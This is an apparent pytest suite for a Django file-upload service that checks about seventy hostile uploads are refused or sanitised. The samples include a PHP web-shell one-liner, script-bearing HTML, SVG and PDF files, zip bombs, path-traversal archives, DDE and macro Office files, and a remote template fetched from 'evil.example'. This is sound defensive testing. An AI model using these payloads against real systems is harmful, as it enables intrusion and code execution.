"""Seventy hostile files: each is refused with a sentence, or made harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from PIL import Image

from anju.access.models import User
from anju.core.decisions import Allowed, Denied
from anju.core.errors import InvalidInput, Refused
from anju.files import rules
from anju.files.models import StoredFile
from anju.files.purposes import PURPOSES, declare
from anju.files.services import file_store
from anju.files.views import file_open
from anju.notices.models import Notice
from tests.factories.audit import NOON, make_actor

PURPOSE = "files.test"
ALL = {"image", "pdf", "sheet", "document", "text", "archive"}


@pytest.fixture(autouse=True)
def storage(settings, tmp_path):
    default = {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": tmp_path},
    }
    settings.STORAGES = settings.STORAGES | {"default": default}
    declare(
        PURPOSE,
        label="test",
        owner="notices.notice",
        kinds=ALL,
        may_add=lambda actor, owner: (
            Allowed() if owner.user_id == actor.user_id else Denied("Not yours.")
        ),
    )
    yield
    del PURPOSES[PURPOSE]


@pytest.fixture
def owner(db):
    user = User.objects.create_user("u", full_name="U")
    return Notice.objects.create(user=user, template="x", values_sealed=b"", created_at=NOON)


def send(owner: Notice, name: str, data: bytes) -> StoredFile:
    upload = SimpleUploadedFile("x", data)
    upload._name = name  # past Django's own cleaning, as another server might hand it over
    actor = make_actor(user_id=owner.user_id)
    return file_store(actor=actor, upload=upload, purpose=PURPOSE, owner=owner, at=NOON)


def picture(image_format: str = "JPEG", size=(40, 30), **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, image_format, **more)
    return out.getvalue()


def packed(entries: dict[str, bytes], **modes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = modes.get("mode", 0o644) << 16
            archive.writestr(info, data)
    return out.getvalue()


def office(kind: str, **more: bytes) -> bytes:
    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    word = {"docx": b"wordprocessingml.document", "xlsx": b"spreadsheetml.sheet"}[kind]
    types = b"application/vnd.openxmlformats-officedocument." + word + b".main+xml"
    return packed({"[Content_Types].xml": types, part: b"<x/>", **more})


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def huge_png() -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def hidden_script() -> bytes:
    stream = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    obj = b"2 0 obj<</Filter/FlateDecode>>stream\n" + stream + b"\nendstream endobj\n"
    return PDF.replace(b"trailer", obj + b"trailer")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def huge_jpeg() -> bytes:
    data = bytearray(picture())
    at = data.index(b"\xff\xc0") + 5  # height and width of the frame
    data[at : at + 4] = struct.pack(">HH", 60000, 60000)
    return bytes(data)


def text_bomb() -> bytes:
    body = b"Comment\0\0" + zlib.compress(b"\0" * 80_000_000)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + body))
    data = picture("PNG")
    return data[:33] + chunk + data[33:]


def macro_enabled(kind: str) -> bytes:
    word = {"docx": b"document", "xlsx": b"sheet"}[kind]
    types = b"application/vnd.ms-" + word + b".macroEnabled.main+xml"
    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    return packed({"[Content_Types].xml": types, part: b"<x/>"})


def locked_zip() -> bytes:
    data = bytearray(packed({"a.txt": b"x"}))
    data[6] |= 1  # the local head
    data[data.index(b"PK\x01\x02") + 8] |= 1  # the directory
    return bytes(data)


REFUSED = {
    "html as jpg": ("a.jpg", HTML),
    "svg": ("a.svg", SVG),
    "svg as png": ("a.png", SVG),
    "html": ("a.html", HTML),
    "html as txt": ("a.txt", HTML),
    "html as csv, utf-16": ("a.csv", b"\xff\xfe" + HTML.decode().encode("utf-16-le")),
    "php": ("a.php", b"<?php system($_GET[0]);"),
    "php as txt": ("a.txt", b"<?php system($_GET[0]);"),
    "program": ("a.pdf.exe", b"MZ" + b"\0" * 200),
    "program as pdf": ("a.pdf", b"MZ" + b"\0" * 200),
    "empty": ("a.pdf", b""),
    "no extension": ("readme", b"text"),
    "fake pdf": ("a.pdf", b"%PDF-1.4 nothing more"),
    "pdf with script": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>")),
    "pdf with escaped script": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/#4aavaScript 1")),
    "pdf with packed script": ("a.pdf", hidden_script()),
    "pdf that launches": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/AA<</S/Launch>>")),
    "pdf and zip": ("a.pdf", PDF + packed({"a.txt": b"x"})),
    "pdf and html": ("a.pdf", PDF + HTML),
    "EICAR": ("a.txt", rules.EICAR),
    "EICAR behind a picture": ("a.jpg", picture() + rules.EICAR),
    "huge picture": ("a.png", huge_png()),
    "broken picture": ("a.jpg", picture()[:200]),
    "png as jpg": ("a.jpg", picture("PNG")),
    "gif": ("a.gif", picture("GIF")),
    "zip bomb": ("a.zip", packed({"a.txt": b"\0" * 40_000_000})),
    "zip bomb as sheet": ("a.xlsx", office("xlsx", **{"xl/a.xml": b"\0" * 40_000_000})),
    "zip climbing out": ("a.zip", packed({"../../etc/cron.d/x": b"x"})),
    "zip with a link": ("a.zip", packed({"a.txt": b"/etc/passwd"}, mode=0o120777)),
    "zip with a program": ("a.zip", packed({"a.txt.EXE": b"MZ"})),
    "zip in zip": ("a.zip", packed({"b.zip": packed({"a.txt": b"x"})})),
    "macro document": ("a.docx", office("docx", **{"word/vbaProject.bin": b"x"})),
    "docm": ("a.docm", office("docx")),
    "document with an object": ("a.docx", office("docx", **{"word/embeddings/o.bin": b"x"})),
    "zip as sheet": ("a.xlsx", packed({"a.txt": b"x"})),
    "null bytes as text": ("a.csv", b"a,b\x00c"),
    "not a zip": ("a.zip", b"PK\x03\x04" + b"\xff" * 100),
    "RTL program": ("gpj.\u202eexe.a.exe", b"MZ"),
    "html as png": ("a.png", HTML),
    "png head, then html": ("a.png", b"\x89PNG\r\n\x1a\n" + HTML),
    "gif head, then script": ("a.png", b"GIF89a/*" + b"x" * 20 + b"*/=1;alert(1)"),
    "bmp as png": ("a.png", picture("BMP")),
    "tiff as jpg": ("a.jpg", picture("TIFF")),
    "truncated png": ("a.png", picture("PNG")[:60]),
    "truncated webp": ("a.webp", picture("WEBP")[:40]),
    "huge jpeg": ("a.jpg", huge_jpeg()),
    "png with a text bomb": ("a.png", text_bomb()),
    "svgz": ("a.svgz", zlib.compress(SVG)),
    "script": ("a.js", b"alert(1)"),
    "hta": ("a.hta", HTML),
    "shortcut": ("a.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"),
    "address file": ("a.url", b"[InternetShortcut]\r\nURL=file://x/y"),
    "stream name": ("a.pdf::$DATA", PDF),
    "name ending in dots": ("a.php. . .", b"<?php"),
    "encrypted pdf": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root")),
    "pdf with a file": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 1>>")),
    "pdf with a form": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA 1 0 R>>")),
    "pdf behind something": ("a.pdf", b"MZ" + b"\0" * 400 + PDF),
    "old word document": ("a.docx", OLE),
    "locked word document": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le")),
    "rtf as docx": ("a.docx", rb"{\rtf1{\object\objocx}}"),
    "docm as docx": ("a.docx", macro_enabled("docx")),
    "xlsm as xlsx": ("a.xlsx", macro_enabled("xlsx")),
    "template from elsewhere": (
        "a.docx",
        office("docx", **{"word/_rels/settings.xml.rels": TEMPLATE}),
    ),
    "sheet that starts programs": (
        "a.xlsx",
        office("xlsx", **{"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
    ),
    "sheet with activex": ("a.xlsx", office("xlsx", **{"xl/activeX/activeX1.bin": b"x"})),
    "zip with absolute names": ("a.zip", packed({"/etc/cron.d/x": b"x"})),
    "zip with backslashes": ("a.zip", packed({"..\\..\\x.txt": b"x"})),
    "zip with a drive": ("a.zip", packed({"C:\\x.txt": b"x"})),
    "zip with too many": ("a.zip", packed({f"{n}.txt": b"" for n in range(5_001)})),
    "locked zip": ("a.zip", locked_zip()),
    "jar as zip": ("a.zip", packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"})),
    "zip with a page": ("a.zip", packed({"index.html": HTML})),
}


@pytest.mark.parametrize(("name", "data"), REFUSED.values(), ids=REFUSED)
def test_a_hostile_file_is_refused_with_a_sentence(owner, name, data):
    with pytest.raises(InvalidInput) as refusal:
        send(owner, name, data)
    assert str(refusal.value)
    assert list(refusal.value.errors) == ["file"]
    assert not StoredFile.objects.exists()


NAMES = {
    "../../../etc/passwd.txt": "passwd.txt",
    "..\\..\\windows\\a.txt": "a.txt",
    "photo.php.txt": "photo_php.txt",
    "a.php\x00.txt": "a_php.txt",
    "invoice\u202etxt.exe.txt": "invoicetxt_exe.txt",
    "CON.txt": "_CON.txt",
    ".htaccess.txt": "htaccess.txt",
    "长" * 300 + ".txt": "长" * 116 + ".txt",
    "a\r\nSet-Cookie: x=1.txt": "a Set-Cookie_ x=1.txt",
    '"; drop.txt': "__ drop.txt",
    "2026.11.23 报告.txt": "2026.11.23 报告.txt",
}


@pytest.mark.parametrize(("name", "kept"), NAMES.items(), ids=range(len(NAMES)))
def test_a_hostile_name_is_made_harmless(owner, name, kept):
    file = send(owner, name, b"text\n")
    assert file.name == kept
    assert set(file.path) <= set("0123456789abcdef/")


def test_pictures_lose_what_is_not_picture(owner):
    exif = Image.Exif()
    exif[0x010E] = "taken at home"
    exif.get_ifd(0x8825)[1] = "N"
    sent = picture(exif=exif, comment=b"<script>alert(1)</script>") + HTML + packed({"a.txt": b"x"})
    file = send(owner, "a.jpg", sent)
    body = response(owner, file).getvalue()
    for rest in (b"Exif", b"script", b"PK\x03\x04", b"home"):
        assert rest not in body
    assert Image.open(io.BytesIO(body)).size == (40, 30)
    assert file.sha256 != file.sent_sha256


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_no_picture_tells_where_it_was_taken(owner, image_format):
    exif = Image.Exif()
    exif[0x010E] = "taken at home"
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (34.0, 16.0, 5.0)
    marks = (b"Exif", b"eXIf", b"EXIF", b"home")
    sent = picture(image_format, exif=exif)
    assert sum(mark in sent for mark in marks) >= 2
    ending = image_format.lower().replace("jpeg", "jpg")
    kept = response(owner, send(owner, f"a.{ending}", sent)).getvalue()
    assert not any(mark in kept for mark in marks)
    assert not Image.open(io.BytesIO(kept)).getexif()


def test_links_a_reader_clicks_and_templates_of_the_own_disk_are_taken(owner):
    links = TEMPLATE.replace(b"https://evil.example/t.dotm", b"file:///C:\\x\\Normal.dotm")
    links += b'<Relationship Type="http://x/hyperlink" Target="https://a.example" Id="h"/>'
    assert send(owner, "a.docx", office("docx", **{"word/_rels/document.xml.rels": links}))


def response(owner: Notice, file: StoredFile, user_id: int | None = None):
    request = RequestFactory().get("/")
    request.actor = make_actor(user_id=user_id or owner.user_id)
    return file_open(request, pk=file.pk)


@pytest.mark.parametrize(
    ("name", "data"),
    [("a.pdf", PDF), ("a.docx", office("docx")), ("a.xlsx", office("xlsx")), ("a.csv", b"a,b\n")],
)
def test_what_is_no_picture_is_never_shown_inline(owner, name, data):
    answer = response(owner, send(owner, name, data))
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert answer.getvalue() == data


def test_who_may_not_see_the_owner_does_not_know_the_file(owner, client, settings):
    file = send(owner, "a.txt", b"x")
    stranger = User.objects.create_user("v", full_name="V")
    assert not StoredFile.objects.visible_to(make_actor(user_id=stranger.pk)).exists()
    assert StoredFile.objects.visible_to(make_actor(user_id=owner.user_id)).get() == file
    with pytest.raises(Refused):
        file_store(
            actor=make_actor(user_id=stranger.pk),
            upload=SimpleUploadedFile("a.txt", b"x"),
            purpose=PURPOSE,
            owner=owner,
            at=NOON,
        )


def test_the_same_bytes_are_kept_once(owner, tmp_path):
    one, two = send(owner, "a.txt", b"same"), send(owner, "b.txt", b"same")
    assert one.path == two.path
    assert len([p for p in tmp_path.rglob("*") if p.is_file()]) == 1


def test_a_file_beyond_the_limit_is_refused_without_reading_it_whole(owner, monkeypatch):
    monkeypatch.setitem(rules.LIMITS, "text", rules.MIB)
    with pytest.raises(InvalidInput, match="1"):
        send(owner, "a.txt", b"x" * (rules.MIB + 1))
